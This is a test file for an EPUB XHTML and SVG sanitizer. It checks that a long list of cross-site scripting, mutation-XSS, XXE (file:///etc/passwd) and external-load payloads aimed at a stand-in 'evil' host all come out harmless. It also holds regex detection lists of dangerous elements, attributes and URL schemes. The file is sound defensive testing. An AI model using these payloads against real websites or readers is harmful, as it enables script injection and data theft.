import { SaxesParser } from 'saxes';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FormatError } from '../format-error.ts';
import { sanitizeSvg, sanitizeXhtml } from './sanitize-xhtml.ts';

const PATH = 'OPS/text/ch1.xhtml';
const clean = (markup: string): string => sanitizeXhtml(Buffer.from(markup), { path: PATH });
const body = (markup: string): string => /<body[^>]*>([^]*)<\/body><\/html>$/.exec(clean(markup))?.[1] ?? 'no body';

/** Strictly parsed, as a browser parses application/xhtml+xml. */
function parse(
  markup: string,
): readonly { readonly name: string; readonly attributes: Readonly<Record<string, string>> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  const parser = new SaxesParser({ xmlns: false });
  parser.on('opentag', ({ name, attributes }) => found.push({ name, attributes: { ...attributes } }));
  parser.write(markup).close();
  return found;
}

const BAD_ELEMENT =
  /^(?:script|iframe|object|embed|applet|form|input|button|base|frame|frameset|foreignObject|animate|set|template|noscript|xmp|plaintext)$/i;
const BAD_ATTRIBUTE = /^(?:on.*|srcdoc|formaction|action|http-equiv|ping|xml:base|target|data)$/i;
const BAD_SCHEME = /^(?:javascript|vbscript|data:text|data:application\/x|file|blob|ftp):?/i;
const LOADING = /^(?:src|href|xlink:href|poster|srcset|altimg|background|style|fill|filter|mask)$/;

function isBadAttribute(element: string, key: string, value: string): boolean {
  if (BAD_ATTRIBUTE.test(key) || BAD_SCHEME.test(value.replace(/[\s\p{Cc}\p{Cf}]/gu, ''))) return true;
  const isLink = key === 'href' && /^(?:a|area|mi)$/.test(element);
  return !isLink && LOADING.test(key) && /(?:https?:)?\/\/[a-z]/i.test(value);
}

/** Everything that must not be in what is served, however it is parsed. */
function dangers(markup: string): readonly string[] {
  const elements = parse(markup);
  const attributes = elements.flatMap(({ name, attributes: all }) =>
    Object.entries(all).flatMap(([key, value]) => (isBadAttribute(name, key, value) ? [`${key}=${value}`] : [])),
  );
  const styles = Array.from(markup.matchAll(/<style[^>]*>([^]*?)<\/style>/g), ([, style = '']) => style).filter(
    (style) => {
      // A string that is no address may say what it likes.
      const outside = style
        .replace(/\\(?:[0-9a-f]{1,6}\s?|[^])/gi, 'E')
        .replace(/((?<![\w@#-])url\(|(?<!E)@import )?"[^"]*"/gi, (whole, address?: string) =>
          address === undefined ? '""' : whole,
        );
      return /(?<![\w@#-])url\("?(?:https?:)?\/\/evil|@import "?(?:https?:)?\/\/evil|expression\(|behavior:|-moz-binding:/i.test(
        outside,
      );
    },
  );
  const text = markup
    .replace(/<style[^>]*>[^]*?<\/style>/g, '')
    .replace(/>[^<]*</g, '><')
    .replace(/ (?:alt|title|content)="[^"]*"/g, '');
  return [
    ...elements.flatMap(({ name }) => (BAD_ELEMENT.test(name) ? [name] : [])),
    ...attributes,
    ...styles,
    ...(text.includes('alert(1)') ? ['alert'] : []),
  ];
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="http://evil/x.js"></SCRIPT>',
  '<script/>alert(1)',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p onclick="alert(1)">x</p>',
  '<p ONMOUSEOVER=alert(1)>x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src="x"/onerror=alert(1)>',
  '<body onload="alert(1)"><p>x</p></body>',
  '<svg onload="alert(1)"><g/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="http://evil/x.js"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
  '<svg><use href="http://evil/x.svg#a"/></svg>',
  "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' onload='alert(1)'/&gt;#x\"/></svg>",
  '<svg><image href="http://evil/x.png"/></svg>',
  '<svg><feImage href="//evil/x.png"/></svg>',
  '<svg><rect fill="url(http://evil/x.svg#a)"/></svg>',
  '<svg><style>@import url(http://evil/x.css);</style></svg>',
  '<math><mi href="javascript:alert(1)">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="java&#x00ad;script:alert(1)">x</a>',
  '<a href=" javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<iframe src="http://evil/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="http://evil/x.swf"><param name="a" value="b"/></object>',
  '<object data="javascript:alert(1)" type="image/png"></object>',
  '<embed src="http://evil/x.swf">',
  '<applet code="x" archive="http://evil/x.jar"></applet>',
  '<form action="http://evil/"><input name="a" autofocus onfocus="alert(1)"/><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="http://evil/">',
  '<meta http-equiv="refresh" content="0;url=http://evil/">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<link rel="stylesheet" href="http://evil/x.css">',
  '<link rel="import" href="x.html">',
  '<link rel="preload" href="http://evil/x" as="script">',
  '<img src="http://evil/x.png">',
  '<img src="//evil/x.png">',
  '<img src="\\\\evil/x.png">',
  '<img src="/\\evil/x.png">',
  '<img srcset="http://evil/1.png 1x, http://evil/2.png 2x">',
  '<picture><source srcset="https://evil/x.webp"><img src="a.png"></picture>',
  '<video src="http://evil/x.mp4" poster="http://evil/p.jpg"></video>',
  '<audio><source src="http://evil/x.mp3"></audio>',
  '<track src="http://evil/x.vtt">',
  '<table background="http://evil/x.png"><tr><td>x</td></tr></table>',
  '<p style="background:url(http://evil/x.png)">x</p>',
  '<p style="background:u\\72l(http://evil/x.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<style>@import "http://evil/x.css";</style>',
  '<style>@\\69mport "http://evil/x.css";</style>',
  '<style>p{background:image-set("http://evil/x.png" 1x)}</style>',
  '<style>p{-moz-binding:url("http://evil/x.xml#y")}</style>',
  '<style></style><script>alert(1)</script></style>',
  '<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>',
  '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  '<style>a{content:"</style><script>alert(1)</script>"}</style>',
  '<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>',
  '<title><script>alert(1)</script></title>',
  '<textarea></textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="http://evil/x.xsl"?><p>x</p>',
  '<!DOCTYPE p [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
  '<p xml:base="http://evil/"><img src="x.png"/></p>',
  '<img src="a.png" usemap="http://evil/#m">',
  '<portal src="http://evil/"></portal>',
  '<frameset><frame src="http://evil/"></frameset>',
  '<bgsound src="http://evil/x.mid">',
  '<isindex action="javascript:alert(1)" type="image">',
  '<div><p title="`"><script>alert(1)</script></div>',
  '<a ping="http://evil/" href="x.xhtml">x</a>',
  '<p id="x" is="y-z" slot="s" nonce="n" autofocus="">x</p>',
  '<p popover="" popovertarget="x" onbeforetoggle="alert(1)">x</p>',
  '<p/onclick=alert(1)>x',
  '<p =onclick=alert(1) "=x>y</p>',
  `<p ${'a'.repeat(5000)}="1" onclick="alert(1)">x</p>`,
];

describe('sanitizeXhtml', () => {
  it.each(ATTACKS)('makes %j harmless and well-formed', (attack) => {
    expect(dangers(clean(attack))).toEqual([]);
    expect(
      dangers(clean(`<html xmlns="http://www.w3.org/1999/xhtml"><head/><body><p>${attack}</p></body></html>`)),
    ).toEqual([]);
    const drawing = sanitizeSvg(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${attack}</svg>`), {
      path: 'a.svg',
    });
    expect(dangers(drawing)).toEqual([]);
  });

  it('gives the same when it is done twice', () => {
    for (const attack of ATTACKS) {
      const once = clean(attack);
      expect(clean(once)).toBe(once);
    }
  });

  it('keeps structure, ids, classes, epub:type, languages and styles', () => {
    const kept =
      '<section epub:type="chapter" id="c1" class="a b" lang="en" xml:lang="en" dir="rtl"><h1>One</h1><p style="color:red">x<br/>y ' +
      '<em>z</em></p><ruby>漢<rt>kan</rt></ruby><table><tr><td colspan="2">1</td></tr></table></section>';
    expect(body(kept.replace('<section', '<section xmlns:epub="e"'))).toBe(kept);
  });

  it('keeps MathML and SVG with their spelling', () => {
    const math = '<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>';
    expect(body(math)).toBe(math.replace('<math', '<math xmlns="http://www.w3.org/1998/Math/MathML"'));
    const drawing =
      '<svg viewBox="0 0 9 9"><linearGradient id="g"></linearGradient><rect fill="red" width="9"></rect></svg>';
    expect(body(drawing)).toContain('viewBox="0 0 9 9"');
    expect(body(drawing)).toContain('<linearGradient id="g">');
    expect(body(drawing.toUpperCase().replaceAll('VIEWBOX', 'viewBox'))).toContain('<linearGradient');
  });

  it('keeps references inside the book and writes them so that they cannot leave it', () => {
    expect(body('<img src="../img/a b.png"/>')).toBe('<img src="../img/a%20b.png"/>');
    expect(body('<img src="/img/a.png"/>')).toBe('<img src="../../img/a.png"/>');
    expect(body('<img src="../../../../api/v1/users"/>')).toBe('<img src="../../api/v1/users"/>');
    expect(body('<a href="ch2.xhtml#n1">x</a><a href="#n2">y</a>')).toBe(
      '<a href="ch2.xhtml#n1">x</a><a href="#n2">y</a>',
    );
    expect(body('<img src="data:image/png;base64,AAAA"/>')).toBe('<img src="data:image/png;base64,AAAA"/>');
  });

  it('keeps links to the web, marked', () => {
    expect(body('<a href="https://example.org/?a=1&amp;b=2">x</a>')).toBe(
      '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer external">x</a>',
    );
    expect(body('<a href="mailto:a@example.org">x</a>')).toContain('href="mailto:a@example.org"');
  });

  it('keeps style sheets of the book and the viewport', () => {
    const page = clean(
      '<html><head><title>T</title><meta name="viewport" content="width=600"/><link rel="stylesheet" href="../a.css"/></head><body/></html>',
    );
    expect(page).toContain('<title>T</title><meta name="viewport" content="width=600"/>');
    expect(page).toContain('<link rel="stylesheet" type="text/css" href="../a.css"/>');
  });

  it('shows the picture of an object, or else what stands in its place', () => {
    expect(body('<object data="a.svg" type="image/svg+xml"><p>no</p></object>')).toBe('<img src="a.svg" alt=""/>');
    expect(body('<object data="a.swf"><p>instead</p></object>')).toBe('<p>instead</p>');
  });

  it('mends broken markup', () => {
    expect(body('<p>one<br>two<p>three <b>bold')).toBe('<p>one<br/>two</p><p>three <b>bold</b></p>');
    expect(body('just text &nbsp; & more')).toBe('just text \u00a0 &amp; more');
    expect(body('')).toBe('');
    expect(body('</p></div></body>x')).toMatch(/x$/);
  });

  it('refuses nesting no browser shows, and takes long documents in good time', () => {
    expect(() => clean('<div>'.repeat(5000))).toThrow(FormatError);
    for (const piece of ['<p>x', '<', '&', '<!--', '<b></i>', '<style>', '"', '<a b=', '<svg><style>/*']) {
      const long = piece.repeat(1024 * 256);
      const outcome = (): number => clean(long).length;
      try {
        expect(outcome()).toBeGreaterThan(0);
      } catch (error) {
        expect(error).toMatchObject({ code: 'xml.too-large' });
      }
    }
  }, 60_000);

  it('makes anything harmless and well-formed', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '/',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '<p>',
        '</p>',
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '</style>',
        '<title>',
        '</title>',
        '<head>',
        '<body>',
        '</body>',
        '<html>',
        '</html>',
        '<object data="a.png">',
        '</object>',
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(dangers(clean(pieces.join('')))).toEqual([]);
        expect(dangers(sanitizeSvg(Buffer.from(`<svg>${pieces.join('')}`)))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});

describe('sanitizeSvg', () => {
  const svg = (markup: string): string => sanitizeSvg(Buffer.from(markup), { path: 'img/a.svg' });

  it('keeps a drawing', () => {
    expect(
      svg('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1"/></svg>'),
    ).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1"><path d="M0 0h1"></path></svg>',
    );
  });

  it('keeps references to parts of itself and files of the book', () => {
    expect(svg('<svg><use xlink:href="#a"/><image href="../b.png"/><rect fill="url(#g)"/></svg>')).toMatch(
      /<use xlink:href="#a"><\/use><image href="\.\.\/b\.png"><\/image><rect fill="url\(&quot;#g&quot;\)">/,
    );
  });

  it('is empty for what is no drawing, and one drawing for two', () => {
    expect(parse(svg('<html><body>x</body></html>'))).toHaveLength(1);
    expect(parse(svg('<svg><g/></svg><svg><path/></svg>')).map(({ name }) => name)).toEqual(['svg', 'g']);
  });
});

describe('white space in attributes and text', () => {
  it.each([
    '<svg id="a\tb"/>',
    '<svg id="a&#10;b"/>',
    '<svg><title>a&#13;b</title></svg>',
    '<svg id="a&#13;&#9;b"/>',
    '<svg><style>\r',
  ])('of %j stays what it is when it is sanitised again', (source) => {
    const once = sanitizeSvg(Buffer.from(source));
    expect(sanitizeSvg(Buffer.from(once))).toBe(once);
  });
});
